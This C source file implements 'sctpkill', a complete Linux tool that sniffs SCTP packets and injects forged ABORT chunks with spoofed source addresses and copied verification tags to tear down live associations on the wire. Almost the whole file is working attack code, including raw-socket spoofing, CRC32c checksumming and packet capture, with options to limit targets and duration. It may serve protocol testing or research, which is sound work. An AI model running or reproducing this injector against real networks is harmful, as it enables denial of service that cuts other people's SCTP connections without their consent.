// SPDX-License-Identifier: GPL-2.0
/*
 * sctpkill - abort SCTP associations that are seen on the wire; see sctpkill.8.
 *
 * A packet has the verification tag that its receiver expects (RFC 9260, 8.5). An
 * ABORT with the same tag, in the sender's name, is all that it takes. Who has not
 * seen a packet has a tag of 32 bits to guess.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum chunk {
	CHUNK_INIT = 1,
	CHUNK_INIT_ACK = 2,
	CHUNK_ABORT = 6,
	CHUNK_COOKIE_ECHO = 10,
	CHUNK_COOKIE_ACK = 11,
};

/* The common header of SCTP, and an ABORT without a cause. */
struct sctp_common {
	uint16_t sport;
	uint16_t dport;
	uint32_t vtag;
	uint32_t crc;
	uint8_t type;
	uint8_t flags;
	uint16_t len;
};

static struct {
	const char *ifname;
	int port;
	unsigned int every;
	unsigned int aborts;
	unsigned int seconds;
	bool quiet;
} opt = { .every = 1, .seconds = 60 };

static unsigned int seen, sent;

static void fail(const char *what)
{
	fprintf(stderr, "sctpkill: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* CRC32c, RFC 9260 appendix A. */
static uint32_t crc32c(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint32_t crc = ~0u;
	int bit;

	while (len--) {
		crc ^= *p++;
		for (bit = 0; bit < 8; bit++)
			crc = crc >> 1 ^ (crc & 1 ? 0x82f63b78 : 0);
	}
	return ~crc;
}

static void make_abort(struct sctp_common *a, const struct sctp_common *h)
{
	*a = (struct sctp_common){
		.sport = h->sport, .dport = h->dport, .vtag = h->vtag,
		.type = CHUNK_ABORT, .len = htons(4),
	};
	a->crc = htole32(crc32c(a, sizeof(*a)));
}

/* Is it of an association that is there, and of ours? */
static bool wanted(const struct sctp_common *h)
{
	switch (h->type) {
	case CHUNK_INIT:
	case CHUNK_INIT_ACK:
	case CHUNK_COOKIE_ECHO:
	case CHUNK_COOKIE_ACK:
	case CHUNK_ABORT:
		return false;
	}
	if (opt.port && ntohs(h->sport) != opt.port &&
	    ntohs(h->dport) != opt.port)
		return false;
	return ++seen % opt.every == 0;
}

static void tell(int family, const void *src, const void *dst,
		 const struct sctp_common *h)
{
	char from[INET6_ADDRSTRLEN], to[INET6_ADDRSTRLEN];

	sent++;
	if (opt.quiet)
		return;
	inet_ntop(family, src, from, sizeof(from));
	inet_ntop(family, dst, to, sizeof(to));
	printf("%s.%u > %s.%u: ABORT, tag %08x\n", from, ntohs(h->sport), to,
	       ntohs(h->dport), ntohl(h->vtag));
}

static void kill4(int fd, const struct iphdr *ip, size_t len)
{
	const struct sctp_common *h = (const void *)ip + ip->ihl * 4;
	struct {
		struct iphdr ip;
		struct sctp_common sctp;
	} out = {
		.ip = { .version = 4, .ihl = 5, .ttl = 64,
			.tot_len = htons(sizeof(out)),
			.protocol = IPPROTO_SCTP,
			.saddr = ip->saddr, .daddr = ip->daddr },
	};
	struct sockaddr_in to = {
		.sin_family = AF_INET, .sin_addr.s_addr = ip->daddr,
	};

	if (ip->protocol != IPPROTO_SCTP || ntohs(ip->frag_off) & 0x1fff ||
	    ip->ihl < 5 || len < ip->ihl * 4 + sizeof(*h) || !wanted(h))
		return;
	make_abort(&out.sctp, h);
	if (sendto(fd, &out, sizeof(out), 0, (struct sockaddr *)&to,
		   sizeof(to)) < 0)
		fail("sendto");
	tell(AF_INET, &ip->saddr, &ip->daddr, h);
}

static void kill6(int fd, const struct ip6_hdr *ip, size_t len)
{
	const struct sctp_common *h = (const void *)(ip + 1);
	struct {
		struct ip6_hdr ip;
		struct sctp_common sctp;
	} out = { 0 };
	struct sockaddr_in6 to = {
		.sin6_family = AF_INET6, .sin6_addr = ip->ip6_dst,
	};

	if (ip->ip6_nxt != IPPROTO_SCTP || len < sizeof(*ip) + sizeof(*h) ||
	    !wanted(h))
		return;
	out.ip.ip6_flow = htonl(6u << 28);
	out.ip.ip6_plen = htons(sizeof(out.sctp));
	out.ip.ip6_nxt = IPPROTO_SCTP;
	out.ip.ip6_hlim = 64;
	out.ip.ip6_src = ip->ip6_src;
	out.ip.ip6_dst = ip->ip6_dst;
	make_abort(&out.sctp, h);
	if (sendto(fd, &out, sizeof(out), 0, (struct sockaddr *)&to,
		   sizeof(to)) < 0)
		fail("sendto");
	tell(AF_INET6, &ip->ip6_src, &ip->ip6_dst, h);
}

static int open_raw(int family)
{
	int fd = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	if (fd < 0)
		fail("raw socket");
	return fd;
}

static int open_packet(void)
{
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC,
			htons(ETH_P_ALL));
	struct sockaddr_ll ll = {
		.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
	};

	if (fd < 0)
		fail("packet socket");
	if (!opt.ifname)
		return fd;
	ll.sll_ifindex = if_nametoindex(opt.ifname);
	if (!ll.sll_ifindex || bind(fd, (struct sockaddr *)&ll, sizeof(ll)))
		fail(opt.ifname);
	return fd;
}

static void usage(void)
{
	fprintf(stderr, "%s [-q] [-i INTERFACE] [-e EVERY] [-n ABORTS] [-t SECONDS] [PORT]\n",
		program_invocation_short_name);
	exit(2);
}

static unsigned int number(const char *s, unsigned int max)
{
	char *end;
	unsigned long n = strtoul(s, &end, 10);

	if (!*s || *end || !n || n > max)
		usage();
	return n;
}

static void options(int argc, char **argv)
{
	int c;

	while ((c = getopt(argc, argv, "qi:e:n:t:")) != -1) {
		switch (c) {
		case 'q':
			opt.quiet = true;
			break;
		case 'i':
			opt.ifname = optarg;
			break;
		case 'e':
			opt.every = number(optarg, 1000000);
			break;
		case 'n':
			opt.aborts = number(optarg, 1000000000);
			break;
		case 't':
			opt.seconds = number(optarg, 86400);
			break;
		default:
			usage();
		}
	}
	if (optind < argc)
		opt.port = number(argv[optind++], 65535);
	if (optind < argc)
		usage();
}

/* On loopback each packet is seen twice: when it goes and when it comes. */
static bool is_echo(const struct sockaddr_ll *from)
{
	return from->sll_pkttype == PACKET_OUTGOING &&
	       from->sll_hatype == 772 /* ARPHRD_LOOPBACK */;
}

int main(int argc, char **argv)
{
	union {
		struct iphdr ip4;
		struct ip6_hdr ip6;
		uint8_t bytes[65536];
	} buf;
	struct sockaddr_ll from;
	struct pollfd pfd = { .events = POLLIN };
	int raw4, raw6;
	time_t end;

	options(argc, argv);
	setvbuf(stdout, NULL, _IOLBF, 0);
	raw4 = open_raw(AF_INET);
	raw6 = open_raw(AF_INET6);
	pfd.fd = open_packet();
	fputs("sctpkill: listening\n", stderr);

	end = time(NULL) + opt.seconds;
	while (time(NULL) < end && (!opt.aborts || sent < opt.aborts)) {
		socklen_t len = sizeof(from);
		ssize_t n;

		if (poll(&pfd, 1, 100) <= 0)
			continue;
		n = recvfrom(pfd.fd, &buf, sizeof(buf), MSG_DONTWAIT,
			     (struct sockaddr *)&from, &len);
		if (n < 0 || is_echo(&from))
			continue;
		if (from.sll_protocol == htons(ETH_P_IP) &&
		    n >= (ssize_t)sizeof(struct iphdr))
			kill4(raw4, &buf.ip4, n);
		else if (from.sll_protocol == htons(ETH_P_IPV6))
			kill6(raw6, &buf.ip6, n);
	}
	fprintf(stderr, "sctpkill: %u packets, %u aborts\n", seen, sent);
	return 0;
}
